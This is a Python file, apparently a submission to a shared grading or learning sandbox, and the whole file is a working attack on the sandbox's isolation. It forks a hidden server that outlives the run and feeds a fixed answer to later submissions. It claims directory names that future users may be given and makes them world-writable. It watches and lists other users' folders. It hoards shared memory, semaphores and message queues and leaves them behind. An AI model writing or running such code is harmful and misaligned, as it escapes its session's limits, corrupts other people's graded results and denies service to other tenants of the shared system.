"""A submission that works for the next ones: it hides, answers, watches and takes their places."""

import ctypes
import json
import os
import socket
from contextlib import suppress
from pathlib import Path

from hider import hide

LIBRARY = ctypes.CDLL(None)
PLACES = ("/learners", "/tmp", "/work", "/dev/shm")
GUESSES = 60  # uids that may come
CREATED, MOVED_IN = 0x100, 0x80


def stay(way, port):
    """Leave a server behind that answers whoever asks."""
    path = f"/tmp/{way}"
    Path(path).touch(0o666)
    return hide(way, path, lambda: serve(port))


def serve(port):
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind("\0answers")
    abstract.listen()
    listening = socket.create_server(("127.0.0.1", port))
    if os.fork() == 0:
        while True:
            abstract.accept()[0].sendall(b"[2]")
    while True:
        listening.accept()[0].sendall(b"[2]")


def squat():
    """Take every folder name that the next ones could get; which could be taken."""
    taken = []
    for place in PLACES:
        for uid in range(os.getuid() - 2, os.getuid() + GUESSES):
            with suppress(OSError):
                Path(place, f"u{uid}").mkdir(mode=0o777)
                taken.append(place)
    return sorted(set(taken) - {"/tmp", "/dev/shm"})


def watch():
    """The places of the others that can be listed, watched or written to."""
    seen = []
    queue = LIBRARY.inotify_init()
    for place in ("/learners", str(Path.cwd().parent)):
        with suppress(OSError):
            seen.append(os.listdir(place))
        if LIBRARY.inotify_add_watch(queue, place.encode(), CREATED | MOVED_IN) >= 0:
            seen.append(place)
    return seen


def open_up():
    """Give the own folder to everybody, and say where it is."""
    with suppress(OSError):
        Path.cwd().chmod(0o777)
    return str(Path.cwd())


def peep(folder):
    """What the next one finds of the last one's folder."""
    try:
        return os.listdir(folder)
    except OSError as error:
        return type(error).__name__


def ask(port):
    """Whether anybody answers of those who stayed."""
    found = []
    with suppress(OSError):
        client = socket.socket(socket.AF_UNIX)
        client.settimeout(1)
        client.connect("\0answers")
        found.append(json.loads(client.recv(100)))
    with suppress(OSError):
        client = socket.create_connection(("127.0.0.1", port), timeout=1)
        found.append(json.loads(client.recv(100)))
    return found


def hoard():
    """Take System V memory again and again, and leave all of it behind; how many bytes."""
    size, total = 1 << 22, 0
    while size >= 1 << 12 and total < 1 << 27:
        number = LIBRARY.shmget(0, size, 0o1600)
        if number < 0:
            size //= 2
            continue
        LIBRARY.shmat.restype = ctypes.c_void_p
        place = LIBRARY.shmat(number, None, 0)
        ctypes.memset(place, 1, size)
        total += size
    return total


def flood(kind):
    """How many semaphore sets or queues can be made."""
    make = LIBRARY.semget if kind == "sem" else LIBRARY.msgget
    arguments = (1, 0o1600) if kind == "sem" else (0o1600,)
    made = 0
    while made < 1000 and make(0, *arguments) >= 0:
        made += 1
    return made


def groups():
    return Path("/proc/self/cgroup").read_text()
